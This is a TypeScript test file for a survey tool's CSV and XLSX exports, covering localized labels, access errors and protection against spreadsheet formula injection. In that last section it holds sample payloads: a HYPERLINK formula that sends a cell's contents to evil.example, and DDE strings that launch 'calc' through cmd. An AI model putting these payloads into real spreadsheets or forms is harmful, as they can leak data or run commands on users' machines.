// Exports of a round, downloaded over HTTP and parsed back: CSV and XLSX hold exactly the
// stored answers, with headers and choice labels in the chosen language.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createOrganizer, postJson, request, type Organizer } from '../helpers/http';
import { createTestRound, type TestRound } from '../helpers/rounds';
import { setupTestApp, type TestApp } from '../helpers/test-app';

const testApp = setupTestApp();
let app: TestApp;
let round: TestRound;
let viewer: Organizer;

const kenya = {
  a1_1: 2,
  a1_2: 3,
  a1_3: 'na',
  a1_4: 1,
  a1_4_evidence: 'Census 2019, vol. II',
  a1_5: 'dk',
  a1_importance: 4,
  a1_target: 3,
  a1_share: 'maybe',
  a1_share_how: 'KNBS; census methods',
};
const niger = { a1_1: 0, a1_2: 1, a1_3: 1, a1_4: 'dk', a1_5: 4, a1_importance: 5, a1_target: 4, a1_share: 'no' };

beforeAll(async () => {
  app = testApp();
  round = await createTestRound('a1-pilot');
  viewer = await createOrganizer(app.baseUrl, 'viewer');
  expect(
    (await postJson(`${app.baseUrl}/api/respondent/${round.kenya}/submit`, { answers: kenya, baseRevision: 0 })).status,
  ).toBe(200);
  expect(
    (await postJson(`${app.baseUrl}/api/respondent/${round.niger}/submit`, { answers: niger, baseRevision: 0 })).status,
  ).toBe(200);
});

async function download(path: string): Promise<{ status: number; type: string | null; body: Buffer }> {
  const res = await fetch(`${app.baseUrl}${path}`, { headers: { Cookie: viewer.cookie } });
  return { status: res.status, type: res.headers.get('content-type'), body: Buffer.from(await res.arrayBuffer()) };
}

describe('When a viewer exports the responses of a round as CSV in French', () => {
  it('then each country is a row, each question a column, with French titles and labels', async () => {
    const file = await download(`/api/rounds/${round.roundId}/exports/responses.csv?lang=fr`);
    expect(file.status).toBe(200);
    expect(file.type).toMatch(/^text\/csv/);
    const rows: Record<string, string>[] = parse(file.body, { columns: true, bom: true });
    expect(rows.map((r) => r['Code ISO'])).toEqual(['KEN', 'NER']);
    const ken = rows[0];
    expect(ken['Pays']).toBe('Kenya');
    expect(ken['Statut']).toBe('submitted');
    const header = (name: string) => Object.keys(ken).find((h) => h.endsWith(`[${name}]`))!;
    expect(header('a1_4')).toBe('Les statistiques migratoires sont ventilées par sexe et par âge. [a1_4]');
    expect(ken[header('a1_1')]).toBe('2 — Partiellement en place');
    expect(ken[header('a1_3')]).toBe('Sans objet');
    expect(ken[header('a1_5')]).toBe('Ne sait pas');
    expect(ken[header('a1_4_evidence')]).toBe(kenya.a1_4_evidence);
    expect(ken[header('a1_importance')]).toBe('4');
    expect(ken[header('a1_share')]).toBe('Peut-être');
    expect(ken[header('a1_share_how')]).toBe(kenya.a1_share_how);
    expect(rows[1][header('a1_share_how')]).toBe(''); // hidden for Niger, dropped on submit
  });
});

describe('When a viewer exports the responses as XLSX in Spanish', () => {
  it('then the workbook holds the same answers, with Spanish labels', async () => {
    const file = await download(`/api/rounds/${round.roundId}/exports/responses.xlsx?lang=es`);
    expect(file.status).toBe(200);
    expect(file.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Responses')!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const cell = (row: number, name: string) =>
      sheet.getRow(row).getCell(headers.findIndex((h) => h.endsWith(`[${name}]`)) + 1).value;
    expect(sheet.rowCount).toBe(3);
    expect(sheet.getRow(3).getCell(1).value).toBe('NER');
    expect(cell(3, 'a1_1')).toBe('0 — Inexistente');
    expect(cell(3, 'a1_4')).toBe('No se sabe');
    expect(cell(3, 'a1_importance')).toBe(5);
    expect(cell(2, 'a1_share')).toBe('Quizás');
  });
});

describe('When answers hold text that a spreadsheet would run as a formula', () => {
  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Evidence")';
  const texts = {
    kenEvidence: hyperlink,
    kenHow: '@SUM(1+1)*cmd|" /C calc"!A0',
    nerEvidence: '+1+cmd|" /C calc"!A0',
    nerHow: '-2+3+cmd|" /C calc"!A0',
  };
  let hostile: TestRound;

  beforeAll(async () => {
    hostile = await createTestRound('a1-pilot');
    const ken = { ...kenya, a1_4_evidence: texts.kenEvidence, a1_share_how: texts.kenHow };
    const ner = { ...niger, a1_4: 2, a1_4_evidence: texts.nerEvidence, a1_share: 'yes', a1_share_how: texts.nerHow };
    expect(
      (await postJson(`${app.baseUrl}/api/respondent/${hostile.kenya}/submit`, { answers: ken, baseRevision: 0 }))
        .status,
    ).toBe(200);
    expect(
      (await postJson(`${app.baseUrl}/api/respondent/${hostile.niger}/submit`, { answers: ner, baseRevision: 0 }))
        .status,
    ).toBe(200);
  });

  it('then the CSV cell starts with a quote mark, so it is shown as text, while numbers stay numbers', async () => {
    const file = await download(`/api/rounds/${hostile.roundId}/exports/responses.csv`);
    const rows: Record<string, string>[] = parse(file.body, { columns: true, bom: true });
    const header = (name: string) => Object.keys(rows[0]).find((h) => h.endsWith(`[${name}]`))!;
    expect(rows[0][header('a1_4_evidence')]).toBe(`'${texts.kenEvidence}`);
    expect(rows[0][header('a1_share_how')]).toBe(`'${texts.kenHow}`);
    expect(rows[1][header('a1_4_evidence')]).toBe(`'${texts.nerEvidence}`);
    expect(rows[1][header('a1_share_how')]).toBe(`'${texts.nerHow}`);
    expect(rows[0][header('a1_importance')]).toBe('4');
  });

  it('then the XLSX cell is the text as typed, a plain string and never a formula', async () => {
    const file = await download(`/api/rounds/${hostile.roundId}/exports/responses.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Responses')!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const cell = (row: number, name: string) =>
      sheet.getRow(row).getCell(headers.findIndex((h) => h.endsWith(`[${name}]`)) + 1);
    for (const [row, name, text] of [
      [2, 'a1_4_evidence', texts.kenEvidence],
      [2, 'a1_share_how', texts.kenHow],
      [3, 'a1_4_evidence', texts.nerEvidence],
      [3, 'a1_share_how', texts.nerHow],
    ] as const) {
      expect(cell(row, name).type).toBe(ExcelJS.ValueType.String);
      expect(cell(row, name).value).toBe(text);
    }
  });
});

describe('When an export is asked for wrongly', () => {
  it('then without a session it is 401, for an unknown round or format 404', async () => {
    expect((await request(`${app.baseUrl}/api/rounds/${round.roundId}/exports/responses.csv`)).status).toBe(401);
    expect((await download(`/api/rounds/64b000000000000000000000/exports/responses.csv`)).status).toBe(404);
    expect((await download(`/api/rounds/not-an-id/exports/responses.csv`)).status).toBe(404);
    expect((await download(`/api/rounds/${round.roundId}/exports/responses.pdf`)).status).toBe(404);
  });
});
